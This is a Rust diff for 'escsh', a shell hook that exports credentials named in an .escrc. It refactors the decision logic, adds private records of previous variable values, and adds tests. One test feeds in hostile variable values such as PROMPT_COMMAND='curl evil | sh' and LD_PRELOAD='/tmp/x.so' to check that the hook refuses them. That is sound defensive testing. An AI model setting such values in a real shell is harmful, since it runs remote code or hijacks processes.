@@ -8,27 +8,16 @@ use std::path::{Path, PathBuf};
 
 use base64::Engine;
 
-use super::cache::{Cache, Entry};
+use super::decide::{self, Decision, Opener};
 use super::diff::{self, Change, Desired, Outcome};
-use super::rc::{self, RcFile, Settings, Target};
-use super::state::{Fingerprinter, State, VAR as STATE_VAR};
-use super::trust::{Trust, TrustStore};
+use super::state::{Fingerprinter, Prev, State, VAR as STATE_VAR};
+use crate::fsutil::{self, Trusting};
 use crate::paths::Paths;
 use crate::shell::Shell;
 
-/// Far enough in the future that shells never reach it.
-const NEVER: i64 = 1 << 40;
-/// How soon to look again while a background refresh is running.
-const POLL: i64 = 15;
 const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;
-
-/// Opens what an `.escrc` names (the commands layer provides this: it
-/// knows the store and the providers).
-pub trait Opener {
-    fn open(&self, settings: &Settings, now: i64) -> Result<Entry, String>;
-    /// Starts a detached refresh of what `rc` names; must not block.
-    fn refresh_in_background(&self, rc: &RcFile);
-}
+/// What the keyed hash of a record of kept values is taken under.
+const KEPT_RECORD: &str = "__escsh_kept";
 
 /// Everything the export reads from the world, so tests can supply it.
 pub struct Inputs<'a> {
@@ -49,17 +38,71 @@ pub struct Inputs<'a> {
 pub struct Export {
     /// Statements for the shell to eval.
     pub script: String,
-    /// One line each, for stderr.
+    /// One line each, for stderr, already made printable.
     pub messages: Vec<String>,
 }
 
-/// Where the decision landed for this directory.
-struct Decision {
-    /// The `.escrc` that applies, if any.
-    rc: Option<PathBuf>,
-    desired: Option<Desired>,
-    watch: Vec<PathBuf>,
-    deadline: i64,
+/// Where records of large states go (see [`State::encode`]).
+pub fn states_dir(paths: &Paths) -> PathBuf {
+    paths.runtime_dir().join("states")
+}
+
+/// Where previous values are kept for child shells: private files named
+/// by a keyed hash of their content (so the name reveals nothing).
+fn kept_dir(paths: &Paths) -> PathBuf {
+    paths.runtime_dir().join("kept")
+}
+
+/// The values variables had before escsh set them: what the shell kept in
+/// `__escsh_prev`, else (a child shell) the private record `state` names.
+pub fn kept_values(
+    paths: &Paths,
+    state: &State,
+    shell_prev: Option<&str>,
+    fp: &Fingerprinter,
+) -> BTreeMap<String, Vec<u8>> {
+    if shell_prev.is_some_and(|p| !p.is_empty()) {
+        return decode_prev(shell_prev);
+    }
+    let Some(id) = state
+        .kept
+        .as_deref()
+        .filter(|id| id.bytes().all(|b| b.is_ascii_hexdigit()))
+    else {
+        return BTreeMap::new();
+    };
+    let Ok(bytes) = fsutil::read_checked(&kept_dir(paths).join(id), 16 << 20, Trusting::Private)
+    else {
+        return BTreeMap::new();
+    };
+    if fp.of(KEPT_RECORD, &bytes) != id {
+        return BTreeMap::new();
+    }
+    decode_prev(std::str::from_utf8(&bytes).ok())
+}
+
+/// Writes the record of `kept` values and returns its id.
+fn keep_values(
+    paths: &Paths,
+    kept: &BTreeMap<String, Vec<u8>>,
+    fp: &Fingerprinter,
+) -> std::io::Result<Option<String>> {
+    if kept.is_empty() {
+        return Ok(None);
+    }
+    let text = encode_prev(kept);
+    let id = fp.of(KEPT_RECORD, text.as_bytes());
+    let file = kept_dir(paths).join(&id);
+    if !file.exists() {
+        fsutil::write_atomic(&file, text.as_bytes())?;
+    }
+    Ok(Some(id))
+}
+
+/// The state a shell's `ESCSH_STATE` text stands for; a foreign or damaged
+/// one is `None`.
+pub fn decode_state(paths: &Paths, text: &[u8]) -> Option<State> {
+    State::decode(&String::from_utf8_lossy(text), &states_dir(paths))
 }
 
 pub fn export(inputs: &Inputs, opener: &dyn Opener) -> anyhow::Result<Export> {
@@ -67,16 +110,37 @@ pub fn export(inputs: &Inputs, opener: &dyn Opener) -> anyhow::Result<Export> {
     let mut messages = Vec::new();
     let state = match env(STATE_VAR) {
         None => State::default(),
-        Some(raw) => State::decode(&String::from_utf8_lossy(&raw)).unwrap_or_else(|| {
+        Some(raw) => decode_state(inputs.paths, &raw).unwrap_or_else(|| {
             messages.push(format!(
-                "ignoring {STATE_VAR} written by another version of escsh"
+                "ignoring {STATE_VAR}: written by another version of escsh, or its record is gone"
             ));
             State::default()
         }),
     };
     let mut next = state.clone();
-    let decision = decide(inputs, opener, &mut next, &mut messages);
-    let shell_prev = decode_prev(inputs.shell_prev.as_deref());
+    let decision = decide::decide(
+        inputs.paths,
+        &inputs.cwd,
+        inputs.now,
+        opener,
+        &mut next,
+        &mut messages,
+    );
+    // Without a stamp the hook looks again at every prompt: slower, still right.
+    let stamp = touch_stamp(inputs).unwrap_or_else(|e| {
+        decide::say_once(
+            &mut next,
+            &mut messages,
+            format!("cannot write this shell's stamp: {e}"),
+        );
+        PathBuf::new()
+    });
+    let shell_prev = kept_values(
+        inputs.paths,
+        &state,
+        inputs.shell_prev.as_deref(),
+        inputs.fingerprinter,
+    );
     let mut outcome = diff::apply(
         env,
         &state,
@@ -86,270 +150,59 @@ pub fn export(inputs: &Inputs, opener: &dyn Opener) -> anyhow::Result<Export> {
     );
     outcome.state.blocked = next.blocked;
     outcome.state.warned = next.warned;
-    outcome.state.rc = decision.rc.clone();
-    messages.extend(transition_messages(
-        &state,
-        &outcome,
-        decision.desired.as_ref(),
-    ));
-    messages.extend(outcome.notes.iter().cloned());
-    let stamp = touch_stamp(inputs)?;
+    outcome.state.at = next.at;
+    outcome.state.kept = keep_values(inputs.paths, &outcome.shell_prev, inputs.fingerprinter)?;
     let script = render(inputs, &outcome, &decision, &stamp)?;
+    // Said only now that the change is certain to be handed to the shell.
+    messages.extend(transition_messages(&state, &outcome, &decision));
+    messages.extend(outcome.notes.iter().cloned());
     Ok(Export { script, messages })
 }
 
-fn decide(
-    inputs: &Inputs,
-    opener: &dyn Opener,
-    state: &mut State,
-    messages: &mut Vec<String>,
-) -> Decision {
-    let mut watch = vec![generation_file(inputs.paths)];
-    let Some(rc) = rc::find(&inputs.cwd) else {
-        watch.extend(candidates(&inputs.cwd, None));
-        return Decision {
-            rc: None,
-            desired: None,
-            watch,
-            deadline: NEVER,
-        };
-    };
-    let at = Some(rc.path.clone());
-    let none = |watch| Decision {
-        rc: at.clone(),
-        desired: None,
-        watch,
-        deadline: NEVER,
-    };
-    watch.extend(candidates(&inputs.cwd, Some(rc.dir())));
-    watch.push(rc.path.clone());
-    let settings = match rc::parse(&rc) {
-        Ok(s) => s,
-        Err(e) => {
-            say_once(state, messages, e.to_string());
-            return none(watch);
-        }
-    };
-    let local = match &settings.target {
-        Target::File(path) => {
-            watch.push(path.clone());
-            match std::fs::read(path) {
-                Ok(bytes) => Some(bytes),
-                Err(e) => {
-                    say_once(
-                        state,
-                        messages,
-                        format!("{}: cannot read {}: {e}", rc.path.display(), path.display()),
-                    );
-                    return none(watch);
-                }
-            }
-        }
-        Target::Reference(_) => None,
-    };
-    // allow and deny bump the generation file, which is watched already.
-    let trust = TrustStore::new(inputs.paths.data_dir());
-    match trust.status(&rc, local.as_deref()) {
-        Trust::Allowed => {}
-        Trust::Denied => return none(watch),
-        Trust::NotAllowed => {
-            let id = TrustStore::content_id(&rc, local.as_deref());
-            if state.blocked.as_deref() != Some(id.as_str()) {
-                messages.push(format!(
-                    "{} ({}) is not allowed: run 'escsh allow' to load it",
-                    rc.path.display(),
-                    target_name(&settings.target)
-                ));
-                state.blocked = Some(id);
-            }
-            return none(watch);
-        }
-    }
-    let cache = Cache::new(inputs.paths.runtime_dir());
-    let key = Cache::key(&target_name(&settings.target));
-    // A background refresh bumps the generation file when it has written
-    // the cache, so the cache itself need not be watched.
-    let entry = match obtain(&cache, &key, || opener.open(&settings, inputs.now)) {
-        Ok(entry) => entry,
-        Err(e) => {
-            say_once(
-                state,
-                messages,
-                format!("cannot load {}: {e}", target_name(&settings.target)),
-            );
-            return Decision {
-                rc: at,
-                desired: None,
-                watch,
-                deadline: inputs.now + 60,
-            };
-        }
-    };
-    watch.extend(entry.sources.iter().map(|s| s.path.clone()));
-    let now = inputs.now;
-    let margin = settings.refresh.map(|d| d.as_secs() as i64);
-    let backing_off = entry.failure.as_ref().is_some_and(|f| f.retry_at > now);
-    if let Some(f) = &entry.failure {
-        say_once(
-            state,
-            messages,
-            format!("refreshing {} failed: {}", entry.target, f.message),
-        );
-    }
-    let due = entry.refresh_at(margin).is_some_and(|at| now >= at);
-    if due && !backing_off {
-        opener.refresh_in_background(&rc);
-    }
-    let deadline = match (entry.refresh_at(margin), entry.expires_at) {
-        (Some(at), Some(_)) if now < at => at,
-        (_, Some(expires)) if now < expires => {
-            let retry = entry
-                .failure
-                .as_ref()
-                .map_or(now + POLL, |f| f.retry_at.max(now + 1));
-            retry.min(expires)
-        }
-        (_, Some(_)) => entry
-            .failure
-            .as_ref()
-            .map_or(now + POLL, |f| f.retry_at.max(now + 1)),
-        _ => NEVER,
-    };
-    if entry.expired(now) {
-        say_once(
-            state,
-            messages,
-            format!(
-                "the credentials of {} have expired: unloaded until a refresh succeeds",
-                entry.target
-            ),
-        );
-        return Decision {
-            rc: at,
-            desired: None,
-            watch,
-            deadline,
-        };
-    }
-    let mut vars: Vec<(String, String, bool)> = entry
-        .vars
-        .iter()
-        .map(|v| (v.name.clone(), v.value.clone(), v.secret))
-        .collect();
-    vars.push(("ESCSH_ENV".into(), entry.target.clone(), false));
-    if let Some(expires) = entry.expires_at {
-        vars.push(("AWS_CREDENTIAL_EXPIRATION".into(), rfc3339(expires), false));
-    }
-    Decision {
-        rc: at,
-        desired: Some(Desired {
-            env: entry.target.clone(),
-            vars,
-            expires_at: entry.expires_at,
-        }),
-        watch,
-        deadline,
-    }
-}
-
-/// Where a nearer `.escrc` could appear: in each directory from `cwd` up
-/// to (not including) the one that applies, or up to the root. Watching
-/// the files rather than the directories keeps busy directories such as
-/// `/tmp` or `$HOME` from waking the hook.
-fn candidates(cwd: &Path, applies: Option<&Path>) -> Vec<PathBuf> {
-    rc::dirs_between(cwd, applies)
-        .into_iter()
-        .filter(|d| Some(d.as_path()) != applies)
-        .map(|d| d.join(rc::FILE_NAME))
-        .collect()
-}
-
-/// The cached entry while its definitions are unchanged; otherwise opens
-/// now, under the lock, so concurrent shells open once.
-fn obtain(
-    cache: &Cache,
-    key: &str,
-    open: impl FnOnce() -> Result<Entry, String>,
-) -> Result<Entry, String> {
-    let valid = |e: &Entry| e.sources_unchanged();
-    if let Some(e) = cache.read(key).filter(valid) {
-        return Ok(e);
-    }
-    let _lock = cache
-        .lock(key)
-        .map_err(|e| format!("locking the cache: {e}"))?;
-    if let Some(e) = cache.read(key).filter(valid) {
-        return Ok(e);
-    }
-    let entry = open()?;
-    cache
-        .write(key, &entry)
-        .map_err(|e| format!("writing the cache: {e}"))?;
-    Ok(entry)
-}
-
-pub fn target_name(target: &Target) -> String {
-    match target {
-        Target::Reference(r) => r.clone(),
-        Target::File(p) => p.display().to_string(),
-    }
-}
-
-/// Says `message` unless it is what was said last.
-fn say_once(state: &mut State, messages: &mut Vec<String>, message: String) {
-    let id = super::trust::hex(&<sha2::Sha256 as sha2::Digest>::digest(message.as_bytes()))[..16]
-        .to_string();
-    if state.warned.as_deref() != Some(id.as_str()) {
-        messages.push(message);
-        state.warned = Some(id);
-    }
-}
-
-/// Touched by `allow`, `deny` and `reload`: every shell watches it.
-pub fn generation_file(paths: &Paths) -> PathBuf {
-    paths.data_dir().join("generation")
-}
-
-pub fn bump_generation(paths: &Paths) -> std::io::Result<()> {
-    let now = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .unwrap_or_default();
-    crate::fsutil::write_atomic(
-        &generation_file(paths),
-        format!("{}\n", now.as_nanos()).as_bytes(),
-    )
-}
-
-fn transition_messages(old: &State, out: &Outcome, desired: Option<&Desired>) -> Vec<String> {
+fn transition_messages(old: &State, out: &Outcome, decision: &Decision) -> Vec<String> {
+    let desired: Option<&Desired> = decision.desired.as_ref();
     let mut lines = Vec::new();
     let new_env = desired.map(|d| d.env.as_str()).unwrap_or("");
     if old.is_loaded() && old.env != new_env {
         lines.push(format!("unloading {}", old.env));
     }
     let Some(desired) = desired else {
-        return lines;
+        return printable_lines(lines);
     };
     let expiry = desired
         .expires_at
-        .map(|t| format!(" expires {}", local_hh_mm(t)))
+        .map(|t| format!(" expires {}", crate::time::local_hh_mm(t)))
         .unwrap_or_default();
     if old.env != desired.env {
+        // `+NAME` was not set before; `~NAME` had a value, restored on leave.
         let names: Vec<String> = out
             .state
             .keys
             .iter()
             .filter(|k| !matches!(k.name.as_str(), "ESCSH_ENV" | "AWS_CREDENTIAL_EXPIRATION"))
-            .map(|k| format!("+{}", k.name))
+            .map(|k| match k.prev {
+                Prev::Unset => format!("+{}", k.name),
+                Prev::Kept => format!("~{}", k.name),
+            })
             .collect();
-        lines.push(format!(
-            "loading {} ({}){expiry}",
-            desired.env,
+        let names = if names.is_empty() {
+            "no variables".to_string()
+        } else {
             names.join(" ")
-        ));
+        };
+        lines.push(format!("loading {} ({names}){expiry}", desired.env));
+        lines.extend(decision.refused.iter().cloned());
     } else if out.changes.iter().any(|c| matches!(c, Change::Set(..))) {
         lines.push(format!("refreshed {}{expiry}", desired.env));
     }
+    printable_lines(lines)
+}
+
+fn printable_lines(lines: Vec<String>) -> Vec<String> {
     lines
+        .into_iter()
+        .map(|l| crate::printable::line(&l).into_owned())
+        .collect()
 }
 
 fn touch_stamp(inputs: &Inputs) -> std::io::Result<PathBuf> {
@@ -431,7 +284,7 @@ fn render(
         lines.push(sh.unset(STATE_VAR)?);
         String::new()
     } else {
-        let encoded = out.state.encode();
+        let encoded = out.state.encode(&states_dir(inputs.paths))?;
         lines.push(sh.export(STATE_VAR, encoded.as_bytes())?);
         encoded
     };
@@ -440,7 +293,7 @@ fn render(
     lines.push(sh.assign_local("__escsh_state", state.as_bytes()));
     lines.push(sh.assign_local("__escsh_stamp", &path_text(stamp)));
     lines.push(sh.assign_local("__escsh_prev", encode_prev(&out.shell_prev).as_bytes()));
-    let rc = out.state.rc.as_deref().map(path_text).unwrap_or_default();
+    let rc = decision.rc.as_deref().map(path_text).unwrap_or_default();
     lines.push(sh.assign_local("__escsh_rc", &rc));
     // Files that exist must not change (the .escrc must also stay);
     // files that do not must not appear.
@@ -458,47 +311,14 @@ fn render(
     Ok(lines.join("\n"))
 }
 
-/// RFC 3339 in UTC, as the AWS CLI and prompt tools read it.
-pub fn rfc3339(unix: i64) -> String {
-    let days = unix.div_euclid(86_400);
-    let secs = unix.rem_euclid(86_400);
-    let (y, m, d) = civil_from_days(days);
-    format!(
-        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
-        secs / 3600,
-        secs % 3600 / 60,
-        secs % 60
-    )
-}
-
-/// Days since 1970-01-01 → (year, month, day), proleptic Gregorian.
-fn civil_from_days(z: i64) -> (i64, u32, u32) {
-    let z = z + 719_468;
-    let era = z.div_euclid(146_097);
-    let doe = z.rem_euclid(146_097);
-    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
-    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
-    let mp = (5 * doy + 2) / 153;
-    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
-    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
-    (yoe + era * 400 + i64::from(m <= 2), m, d)
-}
-
-/// `HH:MM` in the local time zone.
-pub fn local_hh_mm(unix: i64) -> String {
-    let t = unix as libc::time_t;
-    // SAFETY: localtime_r writes only into `tm`, which outlives the call.
-    let mut tm: libc::tm = unsafe { std::mem::zeroed() };
-    if unsafe { libc::localtime_r(&t, &mut tm) }.is_null() {
-        return rfc3339(unix);
-    }
-    format!("{:02}:{:02}", tm.tm_hour, tm.tm_min)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::hook::cache::CachedVar;
+    use crate::hook::cache::{CachedVar, Entry};
+    use crate::hook::decide::Failed;
+    use crate::hook::project::Project;
+    use crate::hook::rc;
+    use crate::hook::trust::TrustStore;
     use std::cell::Cell;
 
     /// Opens to fixed credentials expiring at `expires`; counts refreshes.
@@ -506,39 +326,58 @@ mod tests {
         expires: i64,
         opened_at: i64,
         refreshes: Cell<u32>,
+        vars: Vec<(&'static str, &'static str)>,
+    }
+
+    impl Fake {
+        fn new(expires: i64, opened_at: i64) -> Fake {
+            Fake {
+                expires,
+                opened_at,
+                refreshes: Cell::new(0),
+                vars: vec![("AWS_SECRET_ACCESS_KEY", "s3cr3t-value")],
+            }
+        }
     }
 
     impl Opener for Fake {
-        fn open(&self, settings: &Settings, _: i64) -> Result<Entry, String> {
+        fn open(&self, project: &Project, _: Option<&[u8]>, _: i64) -> Result<Entry, Failed> {
             Ok(Entry {
-                target: target_name(&settings.target),
-                vars: vec![CachedVar {
-                    name: "AWS_SECRET_ACCESS_KEY".into(),
-                    value: "s3cr3t-value".into(),
-                    secret: true,
-                }],
+                target: project.target_name(),
+                vars: self
+                    .vars
+                    .iter()
+                    .map(|(n, v)| CachedVar {
+                        name: n.to_string(),
+                        value: v.to_string(),
+                        secret: true,
+                    })
+                    .collect(),
                 expires_at: Some(self.expires),
                 opened_at: self.opened_at,
-                sources: Vec::new(),
+                sources: vec![crate::store::Source::read_as(&project.rc.path, None)],
                 failure: None,
+                unopened: false,
             })
         }
 
-        fn refresh_in_background(&self, _: &RcFile) {
+        fn refresh_in_background(&self, _: &Path) {
             self.refreshes.set(self.refreshes.get() + 1);
         }
     }
 
     /// An allowed project in a private home; returns the home and project.
-    fn allowed_project() -> (tempfile::TempDir, Paths, PathBuf) {
+    fn allowed_project(escrc: &str) -> (tempfile::TempDir, Paths, PathBuf) {
         let home = tempfile::tempdir().unwrap();
         let paths = Paths::under(home.path());
-        let proj = home.path().join("proj");
+        let proj = std::fs::canonicalize(home.path()).unwrap().join("proj");
         std::fs::create_dir_all(&proj).unwrap();
-        std::fs::write(proj.join(".escrc"), "app/dev\n").unwrap();
-        let rc = rc::find(&proj).unwrap();
-        TrustStore::new(paths.data_dir()).allow(&rc, None).unwrap();
-        (home, paths, std::fs::canonicalize(proj).unwrap())
+        std::fs::write(proj.join(".escrc"), escrc).unwrap();
+        let found = rc::find(&proj).unwrap().unwrap();
+        TrustStore::new(paths.data_dir())
+            .allow(&found, None)
+            .unwrap();
+        (home, paths, proj)
     }
 
     fn run(paths: &Paths, cwd: &Path, now: i64, opener: &Fake) -> Export {
@@ -559,12 +398,8 @@ mod tests {
 
     #[test]
     fn near_expiry_refreshes_in_the_background_and_expired_credentials_are_not_exported() {
-        let (_home, paths, proj) = allowed_project();
-        let fake = Fake {
-            expires: 1_000,
-            opened_at: 100,
-            refreshes: Cell::new(0),
-        };
+        let (_home, paths, proj) = allowed_project("app/dev\n");
+        let fake = Fake::new(1_000, 100);
         // Long before the refresh point: loaded, nothing started, and the
         // hook's deadline is the refresh point (a fifth of the lifetime early).
         let out = run(&paths, &proj, 200, &fake);
@@ -595,10 +430,50 @@ mod tests {
     }
 
     #[test]
-    fn rfc3339_dates() {
-        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
-        assert_eq!(rfc3339(1_764_028_800), "2025-11-25T00:00:00Z");
-        assert_eq!(rfc3339(951_782_400 + 3661), "2000-02-29T01:01:01Z");
+    fn variables_that_run_code_are_refused_unless_opted_in_and_owned_ones_always() {
+        let mut fake = Fake::new(1_000, 100);
+        fake.vars = vec![
+            ("PROMPT_COMMAND", "curl evil | sh"),
+            ("LD_PRELOAD", "/tmp/x.so"),
+            ("__escsh_bin", "/tmp/evil"),
+            ("ESCSH_HOME", "h"),
+            ("FOO", "bar"),
+        ];
+        let (_home, paths, proj) = allowed_project("environment: app/dev\n");
+        let out = run(&paths, &proj, 200, &fake);
+        assert!(out.script.contains("export FOO='bar'"), "{}", out.script);
+        for name in ["PROMPT_COMMAND", "LD_PRELOAD", "__escsh_bin=", "ESCSH_HOME"] {
+            assert!(!out.script.contains(name), "{name} in {}", out.script);
+        }
+        let said = out.messages.join("\n");
+        assert!(said.contains("unsafe-vars: PROMPT_COMMAND"), "{said}");
+        assert!(said.contains("__escsh_bin, a name escsh keeps"), "{said}");
+        assert!(!said.contains("curl evil"), "{said}");
+        let (_home, paths, proj) =
+            allowed_project("environment: app/dev\nunsafe-vars: PROMPT_COMMAND __escsh_bin\n");
+        let out = run(&paths, &proj, 200, &fake);
+        assert!(
+            out.script.contains("export PROMPT_COMMAND="),
+            "{}",
+            out.script
+        );
+        assert!(!out.script.contains("__escsh_bin='/tmp"), "{}", out.script);
+        assert!(!out.script.contains("LD_PRELOAD"), "{}", out.script);
+    }
+
+    #[test]
+    fn messages_mark_new_and_overridden_variables_and_empty_environments() {
+        let (_home, paths, proj) = allowed_project("app/dev\n");
+        let mut fake = Fake::new(1_000, 100);
+        fake.vars = vec![];
+        let out = run(&paths, &proj, 200, &fake);
+        assert!(
+            out.messages
+                .iter()
+                .any(|m| m.starts_with("loading app/dev (no variables)")),
+            "{:?}",
+            out.messages
+        );
     }
 
     #[test]
